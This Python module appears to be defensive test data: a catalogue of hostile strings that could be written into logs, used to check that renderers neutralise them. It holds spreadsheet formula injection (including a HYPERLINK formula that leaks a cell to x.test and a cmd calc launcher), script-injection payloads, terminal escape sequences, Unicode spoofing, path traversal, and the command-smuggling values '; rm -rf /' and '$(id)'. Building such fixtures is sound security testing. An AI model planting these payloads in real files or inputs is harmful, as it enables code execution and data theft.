"""Two hundred values that an attacker could write into a log, and what each must not do."""

from __future__ import annotations

from itertools import product

_BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u200b=", "\ufeff="),
    *("\x00=", "'=", "''+", ";=", "a;@", "a\t=", "a\n=", "a\r\n-", '"=', ",=", "|=", "a; \u200b="),
)
_FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.test/?"&A1,"y")', "1+1", "SUM(1)*cmd|' /C calc'!A0")
_PAGES = (
    *("</script><script>window.hurt=1</script>", "<!--<script>", "-->", "]]>", "<img src=x onerror=window.hurt=1>"),
    *('"><svg onload=window.hurt=1>', "' onclick='window.hurt=1", "javascript:window.hurt=1", "<base href=//x.test>"),
    *("</style><style>*{color:red}", "</title><script>window.hurt=1</script>", "&lt;b&gt;", "&#60;b&#62;", "&amp;"),
    *("</template><iframe srcdoc='<script>1</script>'>", "<meta http-equiv=refresh content='0;//x.test'>", "<r></r>"),
    *(
        "{{7*7}}",
        "{% raw %}",
        "${window.hurt=1}",
        "__proto__",
        "constructor",
        "</textarea><b>",
        "<a href=//x.test>a</a>",
    ),
    *("<r><t>=1+1</t></r>", "<r></is></c><c><f>1+1</f></c><c><is></r>", "<?xml version='1.0'?>", "<![CDATA[<b>]]>"),
)
_TERMINALS = (
    *("\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://x.test\x1b\\link\x1b]8;;\x1b\\", "\x9b31mred", "\x1bP1$r\x1b\\"),
    *(
        "\x07\x08\x0c",
        "a\rb",
        "a\x0bb",
        "\x7f",
        "\x85",
        "\x1b[6n",
        "\x1b[?1049h",
        "\x9d0;t\x9c",
        "\x0e",
        "\x00",
        "a\x00b",
    ),
    *(
        "\u202egpj.exe",
        "\u2066a\u2069",
        "\u200fa",
        "\u061ca",
        "a\u200bb",
        "a\u2060b",
        "\ufeffa",
        "a\xadb",
        "\u2028",
        "\u2029",
    ),
    *("\U000e0041", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\ue000", "[red]no[/red]", "a\u0300\u0301", "\u2800"),
)
_MARKDOWN = (
    *("a|b", "|", "\\|", "\\\\|", "a\\", "`code`", "``a`b``", "*a*", "__a__", "~~a~~", "[a](javascript:alert(1))"),
    *(
        "![](http://x.test/a.png)",
        "[a]: http://x.test",
        "<http://x.test>",
        "http://x.test",
        "https://x.test/a_b_",
        "WWW.x.test",
    ),
    *(
        "a@x.test",
        "# a",
        "> a",
        "- a",
        "1. a",
        "---",
        "| --- |",
        "a  ",
        "  a",
        "\\*a\\*",
        "&copy;",
        "$a$",
        "[^1]",
        ":smile:",
    ),
    *(
        "<!-- a -->",
        "\\n",
        "\\x1b",
        "<details open ontoggle=window.hurt=1>",
        "&#x3c;b>",
        "C:\\Windows\\*.exe",
        "\\\\host\\c$",
    ),
)
_TEXTS = (
    *("", " ", "  ", "\n", "\r\n", "\t", '"', '""', "'", 'a"b', "a,b", "a\nb", "a\r\nb", "a;b", "null", "NULL", "NaN"),
    *("true", "1e999", "0123", "1234e567", "2019-01-01", "json:", 'json:"a"', "_x000D_", "_x0041_a_x005F_", "\\ud800"),
    *("a ¦ b: c", "¦", "¦¦", " ¦ ", "日本語", "שלום", "مرحبا", "😀", "👩‍👩‍👧‍👦", "🇩🇪", "ﷺ", "Ａ", "\U0001f600" * 3),
    *("%00", "../../etc/passwd", "C:\\Users\\a b\\x.exe", "; rm -rf /", "$(id)", "a" * 300, " ".join("ab" * 20)),
    *("x" * 40_000, "😀 " * 20_000, '<"&' * 12_000, "\x1b" * 9_000),
)

VALUES: tuple[str, ...] = (
    *(beginning + formula for beginning, formula in product(_BEGINNINGS, _FORMULAS)),
    *(*_PAGES, *_TERMINALS, *_MARKDOWN, *_TEXTS),
)

NAMES = (*_PAGES[:6], *_TERMINALS[:4], *_MARKDOWN[:6], "=1+1", "\ud800\udfff", "\u202ea", "a\nb\t=1")
"""Some of them, and a lone surrogate, for what authors of analytics choose: ids, titles, names, techniques, reasons."""
